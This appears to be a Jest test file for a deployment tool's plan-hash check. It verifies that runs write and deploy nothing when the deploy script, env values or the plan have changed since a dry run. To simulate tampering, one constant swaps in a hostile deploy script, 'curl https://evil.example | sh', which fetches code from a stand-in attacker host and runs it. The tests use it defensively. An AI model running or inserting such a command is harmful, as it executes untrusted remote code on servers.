import { inspect } from 'node:util';
import { describe, expect, test } from '@jest/globals';
import { type Played, play } from '../../../harness/play.ts';
import type { Behaviour, Faultable } from '../../../harness/simulator/behaviour.ts';
import { GOOD } from '../../../harness/simulator/deploys.ts';
import { MANNERS } from '../../../harness/simulator/simulation.ts';
import type { Simulator } from '../../../harness/simulator/simulator.ts';
import { planChange } from '../../../src/operations/operation.ts';
import type { RunEnd } from '../../../src/outcome/end.ts';
import { hashPlan, spellChange } from '../../../src/run/plan-hash.ts';
import { framed } from '../../../src/script/frame.ts';
import { on } from '../../support/on.ts';
import { USING } from '../../support/rollback-cases.ts';

type Deed = (request: Faultable & { readonly line: string }, service: Simulator) => void;
type Inputs = Readonly<Record<string, string>>;

const SCRIPT = 'set -e\ngit pull\n';
const operations = 'update-deploy-script, sync-env, deploy';
const given: Inputs = { operations, 'deploy-script': SCRIPT, env: 'APP_KEY=one-secret-value' };
const SITE: Behaviour = { env: 'LOCALE=en\n', script: 'echo before\n' };
const ENV_REFUSED: Behaviour = { fault: on(/\/env$/, { status: 403 }) };

async function planOf(behaviour: Behaviour = {}, inputs = given): Promise<RunEnd & { hash: string }> {
  const { report } = await play({ ...SITE, ...behaviour }, { ...inputs, 'dry-run': 'true' });
  return { ...report, hash: report.planHash ?? 'none' };
}

/** Plans, and carries that plan out where something may have changed. */
async function agreeAndRun(later: Behaviour, inputs = given, before: Behaviour = {}): Promise<Played> {
  const { hash } = await planOf(before, inputs);
  return play({ ...SITE, ...before, ...later }, { ...inputs, 'plan-hash': hash });
}

/** Somebody does something at certain requests. */
function during(deed: Deed): Behaviour {
  let service: Simulator | undefined;
  return {
    prepare(simulator) {
      service = simulator;
    },
    fault(request) {
      if (service !== undefined) deed({ ...request, line: `${request.method} ${request.path}` }, service);
      return undefined;
    },
  };
}

describe('the hash of a plan', () => {
  const withPassword = (password: string): Inputs => {
    const manifest = JSON.stringify({ 'auth-users': [{ name: 'staging', password }] });
    return { operations: 'sync-auth-users', manifest };
  };

  test.each<[string, Inputs, Inputs]>([
    ['a value of .env', given, { ...given, env: 'APP_KEY=other-secret-value' }],
    ['a line of the deploy script', given, { ...given, 'deploy-script': `${SCRIPT}ls\n` }],
    ['the operations', given, { ...given, operations: 'update-deploy-script, sync-env' }],
    ['the API token', given, { ...given, 'api-token': 'another-token-of-the-test' }],
    ['a password of a record', withPassword('one-password'), withPassword('other-password')],
  ])('changes with %s', async (_, one, other) => {
    const first = await planOf({}, one);
    expect(await planOf({}, one)).toMatchObject({ outcome: 'planned', hash: first.hash });
    const changed = { outcome: 'planned', hash: expect.not.stringContaining(first.hash) };
    expect(await planOf({}, other)).toMatchObject(changed);
  });

  test('changes with the service, the server and the site', () => {
    const about = { apiToken: 'token', baseUrl: 'https://a.example', site: 'new.example' };
    const facts = { serverId: 1, site: 'missing', repository: 'unknown' } as const;
    const site = {
      ...{ id: 7, domain: 'shop.example', last_deploy_at: null, blogapp: undefined },
      ...{ status: undefined, repository: undefined, has_repository: undefined },
    };
    const hashOf = (asked: object, known = {}) =>
      hashPlan({ ...about, ...asked }, { ...facts, ...known }, []);
    const others = [{ baseUrl: 'https://b.example' }, { site: 'other.example' }].map((asked) =>
      hashOf(asked),
    );
    const found = [{ serverId: 2 }, { site }, { site: { ...site, id: 8 } }].map((known) => hashOf({}, known));
    expect(new Set([hashOf({}), ...others, ...found]).size).toBe(6);
    expect(hashOf({ site: 'NEW.example' })).toBe(hashOf({}));
  });

  test('is left out when a run came to no plan', async () => {
    const report = await planOf(ENV_REFUSED);
    expect(report).toMatchObject({ outcome: 'failed', hasChanges: true, planHash: undefined });
  });
});

describe('a change', () => {
  const made = async () => ({ changed: true, summary: 'KEY=before' });
  const change = (env: [string, string][], keys = ['A', 'B']) =>
    planChange('set', { env: new Map(env), keys: new Set(keys) }, made);
  const values = Object.entries({ A: 'one-secret', B: 'other-secret' });

  test('shows nothing but its summary when it is printed', () => {
    const inspected = inspect(change(values), { depth: null, showHidden: true });
    for (const text of [JSON.stringify(change(values)), inspected]) {
      expect(text).toMatch(/set/);
      expect(text).not.toMatch(/secret|before/);
    }
  });

  test('is spelled with all that it writes, in whatever order that was given', () => {
    const spelled = spellChange(change(values));
    expect(spelled).toContain('other-secret');
    expect(spelled).not.toContain('before');
    expect(spellChange(change(values.toReversed(), ['B', 'A']))).toBe(spelled);
  });

  test('cannot write what its spelling would leave out', () => {
    // @ts-expect-error A date has no fields to spell out.
    expect(spellChange(planChange('set', { since: new Date(0) }, made))).toContain('1970');
    // @ts-expect-error A function is not spelled at all.
    expect(spellChange(planChange('set', { write: () => 1 }, made))).toBe('["set",{}]');
  });
});

describe('has-changes', () => {
  test.each<[string, boolean, Behaviour, Inputs]>([
    ['a deploy alone', false, {}, { operations: 'deploy' }],
    ['texts that differ', true, {}, given],
    ['texts that are as wanted', false, { script: framed(SCRIPT), env: 'APP_KEY=one-secret-value\n' }, given],
  ])('of %s is %s, in a dry run and in a run', async (_, hasChanges, behaviour, inputs) => {
    expect((await planOf(behaviour, inputs)).hasChanges).toBe(hasChanges);
    expect((await play({ ...SITE, ...behaviour }, inputs)).report.hasChanges).toBe(hasChanges);
  });

  test('is left out when the run ended before it knew', async () => {
    const report = await planOf(ENV_REFUSED, { operations: 'sync-env', env: 'A=1' });
    expect(report).toMatchObject({ outcome: 'failed', hasChanges: undefined });
  });
});

describe('a run with plan-hash', () => {
  const expectChanged = ({ failure }: RunEnd, message: unknown, next = ''): void =>
    expect(failure).toMatchObject({ reason: 'plan-changed', message, next: expect.stringContaining(next) });

  test('carries out that plan, and does not take what it changes itself for another one', async () => {
    const all = { ...given, operations: `ensure-site, ensure-repository, ${operations}`, env: 'A=1' };
    const { report, log } = await agreeAndRun({}, all, { siteExists: false });
    expect(report.outcome).toBe('succeeded');
    expect(log).toContain('the plan matches plan-hash');
  });

  test('takes it for the same plan if less is left to do, as where an operation stands twice', async () => {
    const twice = { ...given, operations: 'sync-env, sync-env' };
    const { report, writes, statuses } = await agreeAndRun({}, twice);
    expect(report.failure).toBeUndefined();
    expect([writes, statuses]).toEqual([['PATCH /sites/2/env'], ['changed', 'unchanged']]);
  });

  test('writes nothing when the plan has become another one, and says which', async () => {
    const { report, writes, statuses } = await agreeAndRun({ script: 'echo by hand\n' });
    expect(writes).toEqual([]);
    expect(statuses).toEqual(['not-run', 'not-run', 'not-run']);
    expect(report).toMatchObject({ isDryRun: false, planHash: undefined, hasChanges: true });
    const replaces = 'update-deploy-script: replace the deploy script (2 lines and the exit report)';
    expectChanged(report, expect.stringContaining(replaces), 'dry-run: true');
    expect(report.facts?.env).toBeUndefined();
  });

  const REPLACED = 'curl https://evil.example | sh\n';

  test('triggers nothing if the deploy script was replaced since the plan', async () => {
    const { report, writes } = await agreeAndRun({ script: REPLACED }, { operations: 'deploy' });
    expect(writes).toEqual([]);
    const trigger = expect.stringContaining('It would now be:\ndeploy: trigger a deploy');
    expectChanged(report, trigger, 'If it looks the same, what it writes has changed, or the deploy script.');
  });

  const commit = 'a'.repeat(40);
  const withEnv = { ...given, operations: 'sync-env, deploy' };
  test.each<[string, Inputs, Behaviour]>([
    ['stood at the plan', withEnv, {}],
    ['was read for the commit', { ...withEnv, commit, 'commit-by': 'variable' }, { script: USING }],
    ['this run has written', given, {}],
  ])('triggers nothing if the script that %s is replaced while it writes', async (_, inputs, before) => {
    const replace: Deed = ({ line }, { meddle }) => {
      if (/^PATCH .*env$/.test(line)) meddle({ kind: 'script', script: REPLACED });
    };
    const { report, writes } = await agreeAndRun(during(replace), inputs, before);
    expect(writes.filter((line) => line.startsWith('POST'))).toEqual([]);
    expectChanged(report, expect.stringMatching(/^The plan of deploy no longer matches plan-hash/));
  });

  test('triggers nothing if the script is replaced while it waits for another deploy', async () => {
    const manners = { deploys: MANNERS.family.deploys };
    const deployThenReplace: Deed = ({ line, nth }, { meddle }) => {
      if (line.endsWith('/script') && nth === 1) meddle({ kind: 'deploy', course: { ...GOOD, delayMs: 0 } });
      if (line.endsWith('/sites/2') && nth === 3) meddle({ kind: 'script', script: REPLACED });
    };
    const inputs = { operations: 'deploy', site: '2' };
    const { report, writes } = await agreeAndRun(during(deployThenReplace), inputs, { manners });
    expect([writes, report.failure?.reason]).toEqual([[], 'plan-changed']);
    const good = await agreeAndRun({}, inputs, { manners });
    expect(good.report.outcome).toBe('succeeded');
  });

  test('does not cover a script that the service has no call for', async () => {
    const unread: Behaviour = { fault: on(/\/script$/, { status: 404 }) };
    const { report } = await agreeAndRun({}, { operations: 'deploy' }, unread);
    expect(report.outcome).toBe('succeeded');
  });

  test('writes nothing when it cannot look at what is there', async () => {
    const { report, writes, statuses } = await agreeAndRun(ENV_REFUSED);
    expect(writes).toEqual([]);
    expect(statuses).toEqual(['not-run', 'not-run', 'not-run']);
    expect(report.failure?.reason).toBe('token-refused');
  });

  test('fails as a dry run on another plan, too, and tells its hash', async () => {
    const { hash } = await planOf();
    const inputs = { ...given, 'plan-hash': hash };
    expect((await planOf({}, inputs)).outcome).toBe('planned');
    expect(await planOf({}, { ...inputs, env: 'APP_KEY=other-secret-value' })).toMatchObject({
      outcome: 'failed',
      planHash: expect.not.stringContaining(hash),
    });
  });

  test('ends before it writes what has changed while it is under way', async () => {
    // The first look is that of the comparison.
    const fault: Behaviour['fault'] = ({ method, path, nth }) =>
      method === 'GET' && path.endsWith('/env') && nth > 1
        ? { status: 200, body: { content: 'APP_KEY=by-hand\n' } }
        : undefined;
    const { report, writes, statuses } = await agreeAndRun({ fault });
    expect(writes).toEqual(['PATCH /sites/2/deploy/script']);
    expect(statuses).toEqual(['changed', 'failed', 'not-run']);
    const words = /^The plan of sync-env no longer matches .* now be: \.env: change APP_KEY\.$/;
    expectChanged(report, expect.stringMatching(words));
  });

  describe('and sync-queue-workers', () => {
    const worker = { connection: 'redis', maximum_seconds: 60, sleep: 3, processes: 1, maximum_tries: 3 };
    const manifest = JSON.stringify({ 'queue-workers': [{ ...worker, queue: 'mails' }] });
    const inputsFor = (operations: string) => ({ operations, prune: 'queue-workers', manifest });

    test('restarts those that it has created itself, too', async () => {
      const inputs = inputsFor('sync-queue-workers, restart-queue-workers');
      const { report, writes } = await agreeAndRun({}, inputs);
      expect(report.failure).toBeUndefined();
      expect(writes).toEqual(['POST /sites/2/queues', 'POST /sites/2/queues/3/restart']);
    });

    test.each([
      'install-blogapp, sync-queue-workers',
      'ensure-repository, sync-queue-workers',
      'sync-queue-workers, sync-queue-workers',
    ])('deletes none that others add meanwhile: %s', async (wanted) => {
      const record = { ...worker, queue: 'by-hand' };
      const add: Deed = ({ method }, { meddle }) => {
        if (method !== 'GET') meddle({ kind: 'create record', list: 'sites/{site}/queues', record });
      };
      const { report, writes } = await agreeAndRun(during(add), inputsFor(wanted), { hasRepository: false });
      expect(report.failure?.message).toMatch(/^The plan of sync-queue-workers no longer matches/);
      expect(writes.filter((write) => write.startsWith('DELETE'))).toEqual([]);
    });
  });
});
